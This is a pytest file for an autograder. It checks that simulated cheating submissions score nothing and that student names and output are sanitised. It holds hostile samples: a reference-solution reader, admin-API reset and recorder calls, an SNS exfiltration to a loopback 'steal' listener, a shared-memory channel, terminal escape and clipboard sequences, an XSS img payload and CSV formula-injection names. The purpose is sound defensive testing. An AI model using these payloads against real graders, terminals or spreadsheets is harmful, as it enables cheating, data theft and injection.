"""A cheating class graded next to honest students with `grade`, from a relative path.

order-events (4 tests, 9 points) is the exercise: it has a table, a topic and two
queues, so every door is tried. The cheaters' handlers do nothing but their cheat,
so a cheat that worked is the only way they could earn anything:

    ada   the reference solution (honest)         9/9 alone
    bob   the starter (honest)                    whatever it earns alone
    exec  reads the reference solution from the installed content and runs it
          (aims at 9/9; must not get full marks)
    reset moto's admin API /moto-api/reset (aims at the others' grades)
    exfil SNS http subscription to a loopback listener + publish (aims to get data out)
    rec   moto's recorder: start, then download others' requests (aims to read them)
    ipc   a SysV shared-memory segment as a channel between environments
    mal   raises with control sequences, rich markup and HTML in the message
    =1+2, @SUM(A1), -2+3, +cmd, ESC-named: no submission; their names are formulas
          and control sequences that must come out inert in every file and terminal.
"""

from __future__ import annotations

import csv
import select
import socket
import textwrap
from pathlib import Path

import pytest

from serverless_tutor.cli import main
from serverless_tutor.content.exercises import find_exercise, shipped_exercises
from serverless_tutor.grading.classroom import GradeRecord, record_path

EXERCISE = "order-events"
CHEATS = {
    "exec": """
        import os, sys

        def lambda_handler(event, context):
            roots = [{repo!r}] + sys.path
            for root in roots:
                for middle in ("exercises", "serverless_tutor/_content/exercises"):
                    path = os.path.join(root, middle, "order-events", "solution", "handler.py")
                    try:
                        source = open(path).read()
                    except OSError:
                        continue
                    namespace = {{}}
                    exec(compile(source, path, "exec"), namespace)
                    return namespace["lambda_handler"](event, context)
            return None
    """,
    "reset": """
        import boto3

        def lambda_handler(event, context):
            for path in ("/moto-api/reset", "/moto-api/reset-auth"):
                try:
                    boto3.client("sns", endpoint_url="https://sns.us-east-1.amazonaws.com" + path).list_topics()
                except Exception as error:
                    print("refused:", type(error).__name__)
            return None
    """,
    "exfil": """
        import os, boto3

        def lambda_handler(event, context):
            sns = boto3.client("sns")
            try:
                sns.subscribe(TopicArn=os.environ["ORDER_TOPIC_ARN"], Protocol="http",
                              Endpoint="http://127.0.0.1:{port}/steal")
                sns.publish(TopicArn=os.environ["ORDER_TOPIC_ARN"], Message=str(event))
            except Exception as error:
                print("refused:", type(error).__name__)
            return None
    """,
    "rec": """
        import boto3

        def lambda_handler(event, context):
            for action in ("start-recording", "download-recording"):
                try:
                    boto3.client("sns", endpoint_url="https://sns.us-east-1.amazonaws.com/moto-api/recorder/" + action).list_topics()
                except Exception as error:
                    print("refused:", type(error).__name__)
            return None
    """,
    "ipc": """
        import ctypes

        def lambda_handler(event, context):
            try:
                libc = ctypes.CDLL(None, use_errno=True)
                libc.shmat.restype = ctypes.c_void_p
                segment = libc.shmget(0x5EED, 4096, 0o1666)
                if segment >= 0:
                    address = libc.shmat(segment, None, 0)
                    if address not in (None, ctypes.c_void_p(-1).value):
                        ctypes.memmove(address, b"answers", 7)
            except Exception as error:
                print("refused:", type(error).__name__)
            return None
    """,
    "mal": """
        def lambda_handler(event, context):
            print("\\x1b]52;c;aGFja2Vk\\x07\\x1b]0;pwned\\x07\\x1b[2J[bold]log[/bold]")
            raise ValueError("\\x1b]0;pwned\\x07 =cmd [bold]x[/bold] <img src=x onerror=alert(1)> \\x9b31m")
    """,
}
FORMULA_STUDENTS = ["=1+2", "@SUM(A1)", "-2+3", "+cmd"]
ESC_STUDENT = "\x1b]0;pwned\x07eve"
HONEST = ["ada", "bob"]


@pytest.fixture(scope="module")
def exercise():
    found = find_exercise(shipped_exercises(), EXERCISE)
    assert found is not None
    return found


@pytest.fixture(scope="module")
def listener():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture(scope="module")
def class_run(exercise, listener, tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile-class")
    subs = base / "subs"
    repo = str(Path(__file__).resolve().parents[2])
    port = listener.getsockname()[1]

    def put(student: str, text: str) -> None:
        folder = subs / student
        folder.mkdir(parents=True)
        (folder / f"{EXERCISE}.py").write_text(text, encoding="utf-8")

    put("ada", (exercise.folder / "solution" / "handler.py").read_text(encoding="utf-8"))
    put("bob", (exercise.folder / "handler.py").read_text(encoding="utf-8"))
    for name, source in CHEATS.items():
        put(
            name,
            textwrap.dedent(source).format(repo=repo, port=port)
            if "{" in source
            else textwrap.dedent(source),
        )
    for name in [*FORMULA_STUDENTS, ESC_STUDENT]:
        (subs / name).mkdir()
    (base / "pack.yaml").write_text(
        f"id: hostile\ntitle: Hostile class\nexercises: [{EXERCISE}]\n", encoding="utf-8"
    )
    return base


@pytest.fixture(scope="module")
def graded(class_run):
    """`grade pack.yaml subs --out out`, run from the class folder: every path relative."""
    import os
    import sys
    from io import StringIO

    previous = os.getcwd()
    out, err = StringIO(), StringIO()
    saved = sys.stdout, sys.stderr
    os.chdir(class_run)
    try:
        sys.stdout, sys.stderr = out, err
        code = main(["grade", "pack.yaml", "subs", "--out", "out", "--jobs", "2"])
    finally:
        sys.stdout, sys.stderr = saved
        os.chdir(previous)
    return {
        "code": code,
        "stdout": out.getvalue(),
        "stderr": err.getvalue(),
        "out": class_run / "out",
    }


def record(graded, student: str) -> GradeRecord:
    return GradeRecord.model_validate_json(
        record_path(graded["out"], student, EXERCISE).read_bytes()
    )


@pytest.fixture(scope="module")
def alone(exercise, class_run, grader):
    """The honest students graded one by one outside the class, by this test process's grader
    (tests/grading/conftest.py: one per process, so no sandbox template is started for this)."""
    return {
        student: grader.grade(exercise, class_run / "subs" / student / f"{EXERCISE}.py")
        for student in HONEST
    }


def test_a_relative_submissions_path_grades_every_submission(graded):
    assert graded["code"] == 0, graded["stdout"] + graded["stderr"]
    assert record(graded, "ada").status == "pass"
    assert record(graded, "ada").submission == f"ada/{EXERCISE}.py"


@pytest.mark.parametrize("student", HONEST)
def test_honest_grades_equal_their_grades_alone(graded, alone, student):
    in_class = record(graded, student)
    assert in_class.points == alone[student].points
    assert [(t.name, t.status) for t in in_class.result.tests] == [
        (t.name, t.status) for t in alone[student].tests
    ]
    if student == "ada":
        assert in_class.points == 9


@pytest.mark.parametrize("student", ["reset", "exfil", "rec", "ipc", "mal"])
def test_cheaters_get_zero(graded, student):
    cheater = record(graded, student)
    assert (cheater.status, cheater.points) in (("fail", 0), ("error", 0)), cheater.message


def test_the_solution_reader_does_not_get_full_marks(graded):
    cheater = record(graded, "exec")
    assert cheater.points < cheater.max_points, "the reference solution was readable"


def test_the_exfiltration_reached_no_listener(graded, listener):
    assert graded["code"] == 0
    readable, _, _ = select.select([listener], [], [], 0.2)
    assert readable == []


def test_the_admin_api_was_refused_to_the_handler(graded):
    outputs = [t.output or "" for t in record(graded, "reset").result.tests]
    assert any("refused: ClientError" in output for output in outputs)


def test_formula_names_are_neutralised_in_both_csvs(graded):
    with (graded["out"] / "gradebook.csv").open(newline="", encoding="utf-8") as handle:
        wide = {row[0] for row in csv.reader(handle)}
    with (graded["out"] / "grades-long.csv").open(newline="", encoding="utf-8") as handle:
        long_rows = list(csv.reader(handle))
    for name in FORMULA_STUDENTS:
        assert "'" + name in wide and name not in wide
        assert any(row[0] == "'" + name for row in long_rows)
    every_cell = [cell for row in long_rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in every_cell)
    assert "\\x1b]0;pwned\\x07eve" in wide and ESC_STUDENT not in wide


def test_no_control_character_reaches_the_files_or_the_terminal(graded):
    texts = [
        graded["stdout"],
        graded["stderr"],
        (graded["out"] / "gradebook.csv").read_text(encoding="utf-8"),
        (graded["out"] / "grades-long.csv").read_text(encoding="utf-8"),
        *[p.read_text(encoding="utf-8") for p in (graded["out"] / "feedback").glob("*.md")],
    ]
    for text in texts:
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


def test_feedback_markdown_escapes_learner_text(graded):
    [mal] = [p for p in (graded["out"] / "feedback").glob("mal.md")]
    text = mal.read_text(encoding="utf-8")
    assert "<img" not in text.split("```")[0]  # nothing outside the fences is raw HTML
    assert "\\x1b]0;pwned\\x07" in text  # the escape is shown, inside the fence
    [esc] = [p for p in (graded["out"] / "feedback").glob("*eve.md")]
    assert "# Hostile class: feedback for \\\\x1b\\]0;pwned\\\\x07eve" in esc.read_text(
        encoding="utf-8"
    )
